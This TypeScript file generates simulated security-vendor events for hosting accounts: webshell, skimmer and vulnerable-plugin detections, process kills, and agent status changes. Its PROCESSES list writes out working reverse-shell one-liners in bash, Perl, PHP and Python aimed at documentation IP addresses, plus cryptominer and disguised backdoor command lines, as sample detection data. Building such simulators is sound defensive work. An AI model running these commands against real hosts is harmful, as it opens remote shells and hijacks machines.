import { NormalizeContext, NormalizeResult, normalizeAgentFile, normalizeAgentProcess, normalizeMonarxEvent } from '../monarx/monarx-normalize';
import { NormalizedEvent } from '../../events/normalized-event';
import { base58, between, hex, one, prng, Rng, Seed, seedOf, sha, slotRng, uuid, weighted } from './simulator-random';

export interface SimulatedSite {
  server: string;
  accountUser: string;
  domain: string;
  vendorSiteId: string;
}

export interface SimulateInput {
  seed: string;
  sites: readonly SimulatedSite[];
  from: Date; // inclusive
  to: Date; // exclusive
}

// Every scenario is born in a fixed slot of one site (or server) from a PRNG seeded by seed + site + slot, and each of
// its events belongs to the window holding its occurredAt: any split of a window yields exactly the same events.
export const SLOT_MS = 15 * 60_000;
// Follow-ups (cleanup after detection, restore after quarantine, recovery after a stale agent) land at most this long
// after their scenario's slot ends, so a window looks back this far for scenarios that reach into it.
export const MAX_FOLLOW_UP_MS = 6 * 3_600_000;

const MIN = 60_000;
const HOUR = 60 * MIN;
const PER_SLOT = SLOT_MS / (24 * HOUR);
// Scenarios per site per day before the site's activity weight (agent: per server).
const DAILY = { file: 1.1, process: 0.2, protection: 0.06, agent: 0.15 };
// Most hosting accounts are quiet; a few infected ones keep coming back.
const TIERS = [{ share: 0.15, weight: 4 }, { share: 0.35, weight: 1 }, { share: 0.5, weight: 0.1 }];

type Classification = 'malicious' | 'compromised' | 'suspicious' | 'pua' | 'vulnerable';
type Raw = Record<string, unknown>;
interface SimRecord { resource: 'agent-file' | 'agent-process' | 'event'; raw: Raw; followUp?: boolean }
interface Profile { site: SimulatedSite; slots: Seed; home: string; agentId: string; weight: number; theme: string; plugin: string; favourite: number }
interface FileTemplate { threat: string; shared?: boolean; path: (r: Rng, p: Profile, at: number) => string }

const NAMES = ['about', 'alfa', 'moon', 'radio', 'simple', 'lock360', 'wp-conflg', 'xmlrpcs', 'class-wp-cache', 'admin-ajax2', 'defaults', 'wp-l0gin', 'index2', 'cache-helper'];
const FAKE_PLUGINS = ['wp-zcache', 'seo-toolbox-pro', 'wpcore-updater', 'hello-dolly2', 'contact-form-7-ext', 'ls-security-patch'];
const THEMES = ['twentytwentyfour', 'astra', 'generatepress', 'oceanwp', 'hello-elementor', 'divi', 'flatsome'];
const PLUGINS = ['contact-form-7', 'elementor', 'woocommerce', 'wordpress-seo', 'wpforms-lite', 'updraftplus', 'jetpack'];
const name = (r: Rng) => one(r, NAMES);
const yearMonth = (at: number) => new Date(at).toISOString().slice(0, 7).replace('-', '/');

// Shared samples (the same webshell dropped on many sites) have a hash per variant; injected files are unique.
const FILES: Record<Classification, FileTemplate[]> = {
  malicious: [
    { threat: 'php.webshell.wso', shared: true, path: (r, _p, at) => `wp-content/uploads/${yearMonth(at)}/${name(r)}.php` },
    { threat: 'php.backdoor.filesman', shared: true, path: (r) => ((f) => `wp-content/plugins/${f}/${f}.php`)(one(r, FAKE_PLUGINS)) },
    { threat: 'php.uploader.generic', shared: true, path: (r) => `.well-known/pki-validation/${name(r)}.php` },
    { threat: 'php.mailer.leafmailer', shared: true, path: (r) => `wp-admin/css/colors/${one(r, ['blue', 'coffee', 'ocean', 'sunrise'])}/${name(r)}.php` },
    { threat: 'php.phishing.kit', shared: true, path: (r) => `wp-includes/js/${one(r, ['secure-login', 'office365', 'dhl-track', 'bank-verify'])}/index.php` },
  ],
  compromised: [
    { threat: 'php.injection.eval_base64', path: () => 'index.php' },
    { threat: 'php.injection.include', path: () => 'wp-config.php' },
    { threat: 'php.injection.eval_base64', path: () => 'wp-blog-header.php' },
    { threat: 'php.injection.spam_seo', path: (_r, p) => `wp-content/themes/${p.theme}/functions.php` },
    { threat: 'js.injection.redirect', path: (_r, p) => `wp-content/themes/${p.theme}/header.php` },
    { threat: 'js.skimmer.magecart', path: () => 'wp-content/plugins/woocommerce/assets/js/frontend/checkout.min.js' },
    { threat: 'htaccess.injection.redirect', path: () => '.htaccess' },
  ],
  suspicious: [
    { threat: 'php.suspicious.obfuscated', path: (r, p) => `wp-content/plugins/${p.plugin}/includes/class-${name(r)}.php` },
    { threat: 'php.suspicious.eval_request', path: (r) => `wp-content/cache/${hex(r, 12)}.php` },
    { threat: 'php.suspicious.hidden_file', path: (r) => `wp-content/uploads/.${name(r)}.php` },
  ],
  pua: [
    { threat: 'php.pua.adminer', shared: true, path: () => 'adminer.php' },
    { threat: 'php.pua.phpinfo', shared: true, path: () => 'info.php' },
    { threat: 'php.pua.filemanager', shared: true, path: () => 'wp-content/uploads/tinyfilemanager.php' },
  ],
  vulnerable: [
    { threat: 'vulnerable.wp-file-manager.CVE-2020-25213', shared: true, path: () => 'wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php' },
    { threat: 'vulnerable.revslider.CVE-2014-9734', shared: true, path: () => 'wp-content/plugins/revslider/revslider.php' },
    { threat: 'vulnerable.wp-automatic.CVE-2024-27956', shared: true, path: () => 'wp-content/plugins/wp-automatic/wp-automatic.php' },
    { threat: 'vulnerable.litespeed-cache.CVE-2024-28000', shared: true, path: () => 'wp-content/plugins/litespeed-cache/litespeed-cache.php' },
  ],
};
const CLASSIFICATIONS: [Classification, number][] = [['malicious', 30], ['compromised', 28], ['suspicious', 20], ['pua', 8], ['vulnerable', 14]];

// Command lines point at documentation addresses (RFC 5737) only.
const ip = (r: Rng) => `${one(r, ['192.0.2', '198.51.100', '203.0.113'])}.${1 + Math.floor(r() * 254)}`;
const PROCESSES: { threat: string; run: (r: Rng, home: string) => [path: string, command: string] }[] = [
  { threat: 'cryptominer.xmrig', run: (r, home) => [`${home}/.cache/.sys/xmrig`, `${home}/.cache/.sys/xmrig -o pool.supportxmr.com:443 -u 4${base58(r, 94)} -k --tls --cpu-max-threads-hint=75`] },
  { threat: 'cryptominer.disguised', run: (_r, home) => [`${home}/public_html/wp-content/uploads/.cache/php-fpm`, `php-fpm: pool www -c ${home}/public_html/wp-content/uploads/.cache/config.json`] },
  { threat: 'reverse_shell.bash', run: (r) => ['/usr/bin/bash', `bash -i >& /dev/tcp/${ip(r)}/4444 0>&1`] },
  { threat: 'reverse_shell.perl', run: (r) => ['/usr/bin/perl', `perl -e use Socket;$i="${ip(r)}";$p=1337;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");`] },
  { threat: 'reverse_shell.php', run: (r) => ['/opt/cpanel/ea-php82/root/usr/bin/php', `php -r $sock=fsockopen("${ip(r)}",9001);exec("/bin/sh -i <&3 >&3 2>&3");`] },
  { threat: 'reverse_shell.python', run: (r) => ['/usr/bin/python3', `python3 -c import socket,os,pty;s=socket.socket();s.connect(("${ip(r)}",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`] },
  { threat: 'backdoor.gsocket', run: (r, home) => [`${home}/.config/htop/defunct`, `[kworker/u8:${Math.floor(r() * 9)}-events] -s ${base58(r, 22)} -liqD`] },
];

export function simulateEvents({ seed, sites, from, to }: SimulateInput): NormalizedEvent[] {
  const start = from.getTime();
  const end = to.getTime();
  if (!(end > start)) return [];
  const firstSlot = Math.floor((start - SLOT_MS - MAX_FOLLOW_UP_MS) / SLOT_MS);
  const lastSlot = Math.ceil(end / SLOT_MS) - 1;
  const records: SimRecord[] = [];
  const agentHosts = new Map<string, string>();
  for (const server of new Set(sites.map((s) => s.server))) {
    agentHosts.set(agentIdOf(server), server);
    const slots = seedOf(`${seed}|agent|${server}`);
    for (let slot = firstSlot; slot <= lastSlot; slot++) records.push(...agentSlot(slots, server, slot));
  }
  const unique = new Map(sites.map((s) => [siteKey(s), s]));
  for (const site of unique.values()) {
    const profile = profileOf(seed, site);
    for (let slot = firstSlot; slot <= lastSlot; slot++) records.push(...siteSlot(profile, slot));
  }
  const ctx: NormalizeContext = { agentHosts };
  return records
    .flatMap((r) => toEvents(r, ctx))
    .filter((e) => e.occurredAt.getTime() >= start && e.occurredAt.getTime() < end)
    .sort((a, b) => a.occurredAt.getTime() - b.occurredAt.getTime() || (a.externalId < b.externalId ? -1 : a.externalId > b.externalId ? 1 : 0));
}

// The records are built as Monarx serves them and read by the Monarx normalizer, so simulated events are exactly what
// a real account would yield. A follow-up snapshot repeats the file's detection, which its first snapshot already gave.
function toEvents(record: SimRecord, ctx: NormalizeContext): NormalizedEvent[] {
  const normalize = { 'agent-file': normalizeAgentFile, 'agent-process': normalizeAgentProcess, event: normalizeMonarxEvent }[record.resource];
  const result: NormalizeResult = normalize(record.raw, ctx);
  if (!result.ok) throw new Error(`simulator built an unreadable ${record.resource} record: ${result.rejected.reason}`);
  return record.followUp ? result.events.filter((e) => e.kind !== 'detection') : result.events;
}

function siteSlot(p: Profile, slot: number): SimRecord[] {
  const r = slotRng(p.slots, slot);
  const u = r();
  const at = slot * SLOT_MS + Math.floor((r() * SLOT_MS) / 1000) * 1000;
  let threshold = DAILY.file * p.weight * PER_SLOT;
  if (u < threshold) return fileScenario(r, p, at);
  threshold += DAILY.process * p.weight * PER_SLOT;
  if (u < threshold) return [processRecord(r, p, at)];
  threshold += DAILY.protection * PER_SLOT;
  if (u < threshold) return [protectionRecord(r, p, at)];
  return [];
}

function fileScenario(r: Rng, p: Profile, at: number): SimRecord[] {
  const classification = weighted(r, CLASSIFICATIONS);
  const templates = FILES[classification];
  // A noisy site is usually one infection that the vendor cleans and the attacker puts back.
  const reinfection = classification === 'compromised' && p.weight > 1 && r() < 0.5;
  const template = reinfection ? templates[p.favourite % templates.length] : one(r, templates);
  const id = uuid(r);
  const sha256 = sha(template.shared ? `${template.threat}:${Math.floor(r() * 3)}` : id);
  const detected: Raw = {
    id,
    agent_id: p.agentId,
    path: `${p.home}/public_html/${template.path(r, p, at)}`,
    home_dir: p.home,
    user: p.site.accountUser,
    domain: p.site.domain,
    site_id: p.site.vendorSiteId,
    sha256,
    size: 180 + (parseInt(sha256.slice(0, 5), 16) % 60_000),
    classification,
    threat_name: template.threat,
    status: 'detected',
    created_at: iso(at),
    updated_at: iso(at),
  };
  const out: SimRecord[] = [{ resource: 'agent-file', raw: detected }];
  // Active Protection deletes or quarantines malicious files and cleans compromised ones; some accounts are
  // "insights only" and get no action. Suspicious, PUA and vulnerable files are never acted on.
  const u = r();
  const action = classification === 'malicious' ? (u < 0.55 ? 'deleted' : u < 0.92 ? 'quarantined' : null)
    : classification === 'compromised' && u < 0.88 ? 'cleaned' : null;
  if (!action) return out;
  const actedAt = at + followUpDelay(r);
  out.push({ resource: 'agent-file', raw: { ...detected, status: action, updated_at: iso(actedAt) }, followUp: true });
  if (action === 'quarantined' && r() < 0.08) {
    // An operator restores a false positive within the hour.
    const restoredAt = actedAt + between(r, 20 * MIN, HOUR);
    out.push({ resource: 'agent-file', raw: { ...detected, status: 'restored', updated_at: iso(restoredAt) }, followUp: true });
  }
  return out;
}

// Minutes usually, hours sometimes; at most 5 h, which leaves an hour for a restore within MAX_FOLLOW_UP_MS.
function followUpDelay(r: Rng): number {
  const u = r();
  if (u < 0.6) return between(r, 2 * MIN, 30 * MIN);
  if (u < 0.9) return between(r, 30 * MIN, 2 * HOUR);
  return between(r, 2 * HOUR, 5 * HOUR);
}

function processRecord(r: Rng, p: Profile, at: number): SimRecord {
  const template = one(r, PROCESSES);
  const [path, command] = template.run(r, p.home);
  return {
    resource: 'agent-process',
    raw: {
      id: uuid(r),
      agent_id: p.agentId,
      pid: 1024 + Math.floor(r() * 60_000),
      user: p.site.accountUser,
      command,
      path,
      classification: 'malicious',
      threat_name: template.threat,
      action: r() < 0.88 ? 'killed' : 'blocked',
      created_at: iso(at),
    },
  };
}

function protectionRecord(r: Rng, p: Profile, at: number): SimRecord {
  const u = r();
  const [type, previous, mode] = u < 0.3 ? ['protection_mode_changed', 'active', 'insights']
    : u < 0.6 ? ['protection_mode_changed', 'insights', 'active']
    : u < 0.8 ? ['protection_disabled', 'active', 'off']
    : ['protection_enabled', 'off', 'active'];
  const data = { user: p.site.accountUser, home_dir: p.home, domain: p.site.domain, previous_mode: previous, mode, changed_by: one(r, ['api', 'support@demo-hosting.test', 'cpanel']) };
  return { resource: 'event', raw: { id: uuid(r), type, agent_id: p.agentId, created_at: iso(at), data } };
}

function agentSlot(slots: Seed, server: string, slot: number): SimRecord[] {
  const r = slotRng(slots, slot);
  if (r() >= DAILY.agent * PER_SLOT) return [];
  const at = slot * SLOT_MS + Math.floor((r() * SLOT_MS) / 1000) * 1000;
  const agentId = agentIdOf(server);
  const data = { host_id: server, version: '4.3.12', last_seen_at: iso(at - 10 * MIN) };
  return [
    { resource: 'event', raw: { id: uuid(r), type: 'agent_stale', agent_id: agentId, created_at: iso(at), data } },
    { resource: 'event', raw: { id: uuid(r), type: 'agent_recovered', agent_id: agentId, created_at: iso(at + between(r, 15 * MIN, 2 * HOUR)), data: { host_id: server, version: '4.3.12' } } },
  ];
}

function profileOf(seed: string, site: SimulatedSite): Profile {
  const r = prng(`${seed}|profile|${siteKey(site)}`);
  const u = r();
  let acc = 0;
  const tier = TIERS.find((t) => (acc += t.share) > u) ?? TIERS[TIERS.length - 1];
  const home = `/home/${site.accountUser}`;
  return { site, slots: seedOf(`${seed}|site|${siteKey(site)}`), home, agentId: agentIdOf(site.server), weight: tier.weight, theme: one(r, THEMES), plugin: one(r, PLUGINS), favourite: Math.floor(r() * 1000) };
}

// One agent per server; its id does not depend on the seed, as a real agent's id does not depend on the account.
function agentIdOf(server: string): string {
  return uuid(prng(`agent-id|${server}`));
}

function siteKey(s: SimulatedSite): string {
  return `${s.server}|${s.accountUser}|${s.domain}|${s.vendorSiteId}`;
}

function iso(ms: number): string {
  return new Date(ms).toISOString().replace('.000Z', 'Z');
}
